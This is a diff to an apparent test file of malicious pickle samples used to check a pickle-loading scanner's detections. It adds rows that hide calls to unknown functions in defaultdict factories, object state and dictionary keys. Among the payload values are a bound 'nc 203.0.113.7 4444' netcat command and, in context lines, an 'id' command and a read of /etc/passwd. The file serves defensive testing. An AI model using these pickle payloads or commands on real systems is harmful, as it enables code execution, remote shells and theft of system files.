@@ -12,6 +12,7 @@ from tests.malicious.pickles import Opcodes, call, called, literal, named
 _STATES = "how CPython's unpickler looks up what it calls, and torch's __setstate__ methods"
 _WALKS = "Python's documents: what constructors call on their arguments"
 _HIDDEN = "sandbox-load's own review"
+_TOOL = named("acme.tools", "run")
 _RUN = named("shared_helpers.tools", "run_command")
 _BOUND = call("functools", "partial", _RUN, "id")
 _OPENER = built(made(named("argparse", "FileType")), {"_mode": "w", "_bufsize": -1, "_encoding": None, "_errors": None})
@@ -193,6 +194,34 @@ _ROWS = (
         call("functools", "partial", named("numpy.core._multiarray_umath", "fromfile"), "/etc/passwd"),
     ),
     (
+        "factory_bound",
+        "a dictionary that calls an unknown function with a command for each key that it hasn't",
+        _HIDDEN,
+        call(
+            "collections",
+            "defaultdict",
+            call("functools", "partial", _TOOL, "nc 203.0.113.7 4444"),
+        ),
+    ),
+    (
+        "factory_state",
+        "a dictionary with an unknown function for its default, as what an object is given back",
+        _HIDDEN,
+        built(made(named("acme.tools", "Task")), call("collections", "defaultdict", _TOOL)),
+    ),
+    (
+        "asked_date",
+        "a date of an unknown object, which is asked for its number",
+        _HIDDEN,
+        call("datetime", "date", built(made(named("acme.tools", "Task")), {"run": "id"}), 1, 1),
+    ),
+    (
+        "looked_up",
+        "an unknown object that keeps a function, as a key",
+        _HIDDEN,
+        stored(literal({}), built(made(named("acme.tools", "Proxy")), {"target": _TOOL}), 1),
+    ),
+    (
         "loaded_by_name",
         "a library that is loaded by the name alone",
         _HIDDEN,
@@ -206,7 +235,10 @@ _CAUGHT = (
         "",
         "shadowed_append shadowed_add shadowed_extend shadowed_setstate shadowed_mapping",
     ),
-    ("global.constructor.walks", "load.failed", "asked_uuid asked_size walked_masked"),
+    ("global.constructor.walks", "load.failed", "asked_uuid asked_size asked_date walked_masked"),
+    ("global.unknown.factory", "", "factory_bound"),
+    ("oddity.factory", "", "factory_state"),
+    ("oddity.key", "", "looked_up"),
     ("global.applier.made global.constructor.walks global.unknown.applied", "load.failed", "walked_array walked_time"),
     ("global.dangerous.passed", "", "opener_bound reader_bound"),
     ("oddity.shadow", "", "shadowed_step shadowed_conv"),
